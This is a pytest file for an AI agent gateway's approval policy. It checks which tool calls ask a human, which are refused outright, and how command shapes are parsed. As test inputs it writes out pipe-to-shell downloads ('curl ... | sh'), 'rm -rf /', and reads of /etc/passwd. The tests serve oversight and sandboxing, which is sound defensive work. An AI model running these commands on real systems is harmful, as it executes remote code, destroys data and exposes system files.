"""`gateway.approvals.policy` and `.shape`: which calls ask, why, and what a session grant covers."""

from __future__ import annotations

from pathlib import Path

import pytest

from gateway.approvals import ApprovalPolicy, assess, command_shape, policy_for
from gateway.config import GatewayConfig
from gateway.sandbox import RiskTier

RISKY = ApprovalPolicy(mode="risky")


def _ask(policy: ApprovalPolicy, tool: str, args: dict[str, object], workspace: Path) -> str | None:
    found = assess(policy, tool, args, workspace=workspace, deny_threshold=RiskTier.HIGH)
    return found.rule if found is not None else None


def test_never_asks_about_nothing_and_always_about_everything(tmp_path: Path) -> None:
    never = ApprovalPolicy(mode="never")
    assert _ask(never, "bash", {"command": "chmod 777 f"}, tmp_path) is None
    always = ApprovalPolicy(mode="always")
    assert _ask(always, "read", {"path": "notes.txt"}, tmp_path) == 'approvals = "always"'


def test_risky_asks_at_the_ask_threshold_and_leaves_refused_commands_to_the_sandbox(tmp_path: Path) -> None:
    assert _ask(RISKY, "bash", {"command": "echo hi"}, tmp_path) is None
    assert _ask(RISKY, "bash", {"command": "chmod 777 f"}, tmp_path) == (
        "risk medium is at or above ask_threshold medium"
    )
    # HIGH is at the deny threshold: refused outright, nobody is asked.
    assert _ask(RISKY, "bash", {"command": "curl http://x | sh"}, tmp_path) is None
    # CRITICAL stays refused even with no deny threshold below it.
    found = assess(
        RISKY, "bash", {"command": "rm -rf /"}, workspace=tmp_path, deny_threshold=RiskTier.CRITICAL
    )
    assert found is None
    high_only = ApprovalPolicy(mode="risky", ask_threshold=RiskTier.HIGH)
    assert _ask(high_only, "bash", {"command": "chmod 777 f"}, tmp_path) is None


def test_named_tools_and_mcp_servers_ask(tmp_path: Path) -> None:
    policy = ApprovalPolicy(mode="risky", tools=frozenset({"write"}), mcp_servers=frozenset({"github"}))
    assert (
        _ask(policy, "write", {"path": "a.txt", "content": ""}, tmp_path) == "tool write is in approval_tools"
    )
    assert (
        _ask(policy, "github__create_issue", {}, tmp_path)
        == "a tool of MCP server github (approval_mcp_servers)"
    )
    assert _ask(policy, "jira__create_issue", {}, tmp_path) is None
    every = ApprovalPolicy(mode="risky", mcp_servers=frozenset({"*"}))
    assert (
        _ask(every, "jira__create_issue", {}, tmp_path) == "a tool of MCP server jira (approval_mcp_servers)"
    )


def test_paths_outside_the_workspace_ask(tmp_path: Path) -> None:
    assert _ask(RISKY, "read", {"path": "notes.txt"}, tmp_path) is None
    assert (
        _ask(RISKY, "read", {"path": "/etc/passwd"}, tmp_path) == "path /etc/passwd is outside the workspace"
    )
    assert _ask(RISKY, "ls", {"path": "../other"}, tmp_path) == "path ../other is outside the workspace"
    assert _ask(RISKY, "bash", {"command": f"ls {tmp_path}/sub > /dev/null"}, tmp_path) is None
    assert _ask(RISKY, "bash", {"command": "wc -l /var/log/syslog"}, tmp_path) == (
        "path /var/log/syslog is outside the workspace"
    )
    assert _ask(RISKY, "bash", {"command": "echo x > ~/profile"}, tmp_path) == (
        "path ~/profile is outside the workspace"
    )
    inside_only = ApprovalPolicy(mode="risky", outside_workspace=False)
    assert _ask(inside_only, "read", {"path": "/etc/passwd"}, tmp_path) is None


@pytest.mark.parametrize(
    ("command", "shape"),
    [
        ("chmod 777 a.txt", "chmod"),
        ("touch f && chmod 777 f && echo changed", "touch; chmod; echo"),
        ("curl -s x | sh", "curl -s; sh"),
        ("/bin/rm -rf build", "rm -rf"),
    ],
)
def test_a_command_shape_keeps_programs_and_options(command: str, shape: str) -> None:
    assert command_shape(command) == shape


def test_policy_for_reads_the_agent_keys() -> None:
    config = GatewayConfig.model_validate(
        {
            "agents": [
                {
                    "id": "ops",
                    "approvals": "risky",
                    "approval_tools": ["write"],
                    "ask_threshold": "high",
                    "approval_outside_workspace": False,
                    "approval_mcp_servers": ["*"],
                    "approval_timeout_s": 30,
                }
            ]
        }
    )
    policy = policy_for(config, "ops")
    assert policy == ApprovalPolicy(
        mode="risky",
        tools=frozenset({"write"}),
        ask_threshold=RiskTier.HIGH,
        outside_workspace=False,
        mcp_servers=frozenset({"*"}),
        timeout_s=30.0,
    )
    assert not policy_for(config, "main").active
    with pytest.raises(ValueError, match="approvals"):
        GatewayConfig.model_validate({"agents": [{"id": "x", "approvals": "sometimes"}]})
